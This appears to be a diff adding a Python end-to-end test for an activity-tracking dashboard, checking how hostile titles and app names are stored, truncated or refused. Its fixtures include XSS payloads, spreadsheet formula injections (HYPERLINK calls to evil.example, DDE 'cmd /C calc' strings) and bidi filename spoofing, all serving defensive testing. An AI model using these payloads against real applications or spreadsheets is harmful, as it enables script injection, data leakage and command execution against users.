@@ -1,0 +1,218 @@
+"""Hostile titles and app names (issue 13), sent as an agent sends them (enroll, then
+batches) and read back everywhere they are shown: the API's answers, every page and
+chart in Chromium (counting dialogs and page errors), and the CSV and XLSX exports.
+
+The corpus: XSS (script tags, event handlers, javascript: URLs, SVG onload, attribute
+breakers), spreadsheet formulas (with leading spaces and tabs too), bidi overrides and
+isolates, plotly template syntax, a very long word, emoji and combining marks; then
+what the wire protocol refuses or cleans (docs/api.md, ingest/schemas.py): a 1 MB
+title (cut at 1,024 characters), a 1 MB app name (422: `app` ≤ 255), a 5 MB body (413),
+NUL characters (removed) and a lone surrogate (400: not JSON the server can store).
+
+Runs in both database passes (not `once`): what is stored, cut and read back is the
+storage's business (SQLite and PostgreSQL treat NUL and text differently), and the
+module costs a few seconds of setup beside its browser time.
+"""
+
+# The fixtures come from a module shared with no conftest (see its docstring): imported
+# here, then named as test arguments, which ruff reads as redefinitions.
+# ruff: noqa: F811
+
+from __future__ import annotations
+
+import json
+import uuid
+from datetime import datetime, timedelta
+from typing import Any
+
+import pytest
+import requests
+
+from e2e.test_first_day import API, _command
+from oxytrack.dashboard.tests.browser import (  # noqa: F401 (fixtures)
+    Browser,
+    chromium,
+    web,
+    web_server,
+)
+
+pytestmark = [pytest.mark.browser, pytest.mark.slow]
+
+MB = 1_000_000
+TITLE_MAX = 1024  # settings.OXYTRACK_MAX_TITLE_CHARS, docs/api.md
+APP = "hostile.exe"
+
+XSS = [
+    "<script>alert('xss-script')</script>",
+    "<img src=x onerror=\"alert('xss-img')\">",
+    "<a href=\"javascript:alert('xss-href')\">clic</a>",
+    "<svg onload=alert('xss-svg')></svg>",
+    "\"'><img src=x onerror=alert('xss-break')>",
+    "</title><script>document.title='pwned'</script>",
+    "{{ 7*7 }} {% csrf_token %} ${7*7}",
+]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '  =HYPERLINK("http://evil.example","espaces")',
+    '\t=HYPERLINK("http://evil.example","tab")',
+]
+BIDI = [
+    "Facture \u202egpj.exe",
+    "Rapport \u2067\u05e9\u05dc\u05d5\u05dd\u2069 isolé \u2066x\u2069",
+]
+PLOTLY = [
+    "%{x} %{y:.2f} %{label} %{percent}<extra>injecté</extra>",
+    "<b>gras</b><br><i>italique</i> %{customdata[0]}",
+]
+LONG_WORD = "Mot" + "x" * 3000  # cut at 1,024, no space to wrap at
+OTHERS = [
+    "Émoji 👩🏽‍💻🇫🇷 et marques combinantes Z̷̧̛a̸̢͝l̵̛̛g̶o̴",
+]
+STORED = XSS + FORMULAS + BIDI + PLOTLY + OTHERS
+# Hostile app names (≤ 255 characters: longer ones are refused, docs/api.md).
+APPS = [
+    "<img src=x onerror=alert('xss-app')>.exe",
+    '=HYPERLINK("http://evil.example","app")',
+    "%{y}<extra>app</extra>.exe",
+    "\u202eexe.gpj",
+]
+
+
+def _device(base: str) -> str:
+    """Enroll as the agent does (no display name); the device token."""
+    _command("agencies", "add", "Nice", "--time-zone", "Europe/Paris")
+    _command("services", "add", "Facturation")
+    key = _command("enrollment_key").strip().splitlines()[-1]
+    identity = {
+        "username": "jdupont",
+        "domain": "CORP",
+        "hostname": "PC-<img src=x onerror=alert('xss-host')>",
+        "os": "Windows 11",
+        "agent_version": "0.1.0",
+        "time_zone": "Europe/Paris",
+        "local_ips": ["192.168.1.20"],
+        "agency": "Nice",
+        "service": "Facturation",
+    }
+    reply = requests.post(
+        f"{base}{API}/enroll", json=identity, headers={"X-Enrollment-Key": key}, timeout=30
+    )
+    assert reply.status_code == 201, reply.text
+    return str(reply.json()["device_token"])
+
+
+class Agent:
+    """Batches of spans laid back to back from two hours ago, as an agent sends them."""
+
+    def __init__(self, base: str, token: str) -> None:
+        self.base = base
+        self.token = token
+        now = datetime.now().astimezone().replace(microsecond=0)
+        # Before noon, the timeline's day is today; after it, still today (2 h back).
+        self.start = now - timedelta(hours=2)
+
+    def spans(self, pairs: list[tuple[str, str]], seconds: int = 120) -> list[dict[str, Any]]:
+        out = []
+        for app, title in pairs:
+            out.append(
+                {
+                    "start": self.start.isoformat(),
+                    "duration_s": seconds,
+                    "app": app,
+                    "title": title,
+                    "active": True,
+                    "keys": 3,
+                    "clicks": 1,
+                }
+            )
+            self.start += timedelta(seconds=seconds)
+        return out
+
+    def send(self, spans: list[dict[str, Any]] | None = None, raw: bytes | None = None) -> Any:
+        if raw is None:
+            body = {
+                "batch_id": str(uuid.uuid4()),
+                "sent_at": datetime.now().astimezone().isoformat(),
+                "spans": spans,
+            }
+            # ensure_ascii: the lone surrogate travels as the escape "\ud800", as a
+            # JSON encoder writes it (raw UTF-8 cannot hold it).
+            raw = json.dumps(body, ensure_ascii=True).encode()
+        return requests.post(
+            f"{self.base}{API}/batches",
+            data=raw,
+            headers={"Authorization": f"Bearer {self.token}", "Content-Type": "application/json"},
+            timeout=60,
+        )
+
+
+def _counts() -> tuple[int, int, int]:
+    from oxytrack.activity.models import Span, Window
+    from oxytrack.ingest.models import Batch
+
+    return Batch.objects.count(), Span.objects.count(), Window.objects.count()
+
+
+def _assert_refused(reply: Any, status: int, code: str) -> None:
+    assert reply.status_code == status, reply.text
+    assert reply.headers["Content-Type"].startswith("application/json")
+    body = reply.json()
+    assert body["code"] == code, body
+    assert isinstance(body["message"], str) and body["message"], body
+
+
+def upload_corpus(base: str) -> Agent:
+    """The stored part of the corpus (one batch), the cleaned and the refused ones,
+    each answer checked, nothing stored by a refused batch."""
+    agent = Agent(base, _device(base))
+    pairs = [(APP, title) for title in STORED] + [(app, f"Fenêtre de {app}") for app in APPS]
+    # The hostile titles get the most time: in the pie's slices and the bars.
+    reply = agent.send(agent.spans(pairs, seconds=300))
+    assert reply.status_code == 200, reply.text
+    assert reply.json()["accepted"] == len(pairs)
+
+    # Cleaned, stored: NUL removed, a 1 MB title and a long word cut at 1,024.
+    reply = agent.send(
+        agent.spans([(APP, "NUL\x00au\x00milieu"), (APP, "T" * MB), (APP, LONG_WORD)], seconds=60)
+    )
+    assert reply.status_code == 200, reply.text
+    assert reply.json() == {**reply.json(), "accepted": 3, "duplicate": False}
+
+    before = _counts()
+    # A lone surrogate: pydantic's JSON reader refuses the escape, the batch is refused.
+    _assert_refused(agent.send(agent.spans([(APP, "seul \ud800 ici")])), 400, "malformed")
+    # A 1 MB app name: `app` is at most 255 characters.
+    _assert_refused(agent.send(agent.spans([(APP, "ok"), ("A" * MB, "ok")])), 422, "invalid_field")
+    # A body past 4 MiB: refused before it is read.
+    _assert_refused(agent.send(agent.spans([(APP, "B" * (5 * MB))])), 413, "too_large")
+    assert _counts() == before  # no half-written batch
+    return agent
+
+
+def stored(text: str) -> str:
+    """What the server keeps of a title (docs/api.md): control characters removed."""
+    from oxytrack.ingest.schemas import CONTROL_CHARACTERS
+
+    return CONTROL_CHARACTERS.sub("", text)[:TITLE_MAX]
+
+
+def _stored_titles() -> set[str]:
+    from oxytrack.activity.models import Window
+
+    return set(Window.objects.values_list("title", flat=True))
+
+
+def test_the_api_stores_or_refuses_each_hostile_batch_clearly(web_server: str) -> None:
+    upload_corpus(web_server)
+    titles = _stored_titles()
+    for title in STORED:
+        assert stored(title) in titles, title  # as sent, control characters removed
+    assert '=HYPERLINK("http://evil.example","tab")' in titles  # the tab is a control
+    assert "NULaumilieu" in titles  # NUL removed (never a 500 on PostgreSQL)
+    assert "T" * TITLE_MAX in titles
+    assert LONG_WORD[:TITLE_MAX] in titles
+    assert not any("\x00" in t or "\ud800" in t for t in titles)
+    assert max(len(t) for t in titles) == TITLE_MAX
